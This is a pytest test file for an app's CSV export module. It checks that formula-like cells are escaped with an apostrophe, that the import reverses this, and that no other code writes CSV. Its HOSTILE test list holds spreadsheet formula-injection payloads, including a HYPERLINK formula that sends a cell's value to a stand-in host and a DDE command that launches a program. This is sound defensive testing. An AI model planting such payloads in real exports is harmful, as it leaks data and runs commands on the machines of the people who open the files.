"""The one CSV writer of the exports: no cell a spreadsheet would run as a formula, the
import takes the apostrophe back off, and no other code in the app writes CSV."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from lib.exports import csv_bytes, unquote

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = ['=HYPERLINK("http://x.test/?"&A1,"clic")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\tTAB",
           "\r=1", "'=déjà une apostrophe", "''@deux", "'texte", "- liste", "= ", "-"]
NUMBERS = ["-3", "+1", "-1", "0", "-2,5", "12.75", -3, 4.5]


def cells(data: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def starts_formula(cell: str) -> bool:
    return cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not re.fullmatch(r"[+-]?\d+(?:[.,]\d+)?", cell)


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_text_that_would_run_as_a_formula_gets_one_apostrophe_and_numbers_stay(delimiter):
    data = csv_bytes(["=Défi", "Note"], [[value, "ok"] for value in HOSTILE + NUMBERS], delimiter)
    header, *rows = cells(data, delimiter)
    assert header == ["'=Défi", "Note"]
    written = [row[0] for row in rows]
    assert not [c for c in written if starts_formula(c)]
    assert written[:len(HOSTILE)] == ["'" + v if v.lstrip("'")[:1] in "=+-@\t\r" else v for v in HOSTILE]
    assert written[len(HOSTILE):] == [str(v) for v in NUMBERS]


def test_unquote_gives_back_exactly_what_was_exported():
    values = HOSTILE + [str(v) for v in NUMBERS] + ["", "Réunion", "'", "a=b", "x-y"]
    _, *rows = cells(csv_bytes(["v"], [[v] for v in values]))
    assert [unquote(row[0]) for row in rows] == values


def test_no_csv_is_written_outside_the_one_writer():
    # A new export that built its own CSV would escape the formula rule: every CSV the app
    # hands out goes through lib.exports.csv_bytes. The importer reads CSV, never writes it.
    sources = [ROOT / "frame.py", *(ROOT / "lib").rglob("*.py"), *(ROOT / "pages").rglob("*.py"),
               *(ROOT / "routes").rglob("*.py")]
    writers = re.compile(r"\bcsv\.writer\b|DictWriter|\.to_csv\(|\bwriterows?\(")
    offenders = [str(p.relative_to(ROOT)) for p in sources
                 if p.name != "exports.py" and writers.search(p.read_text(encoding="utf-8"))]
    assert offenders == []
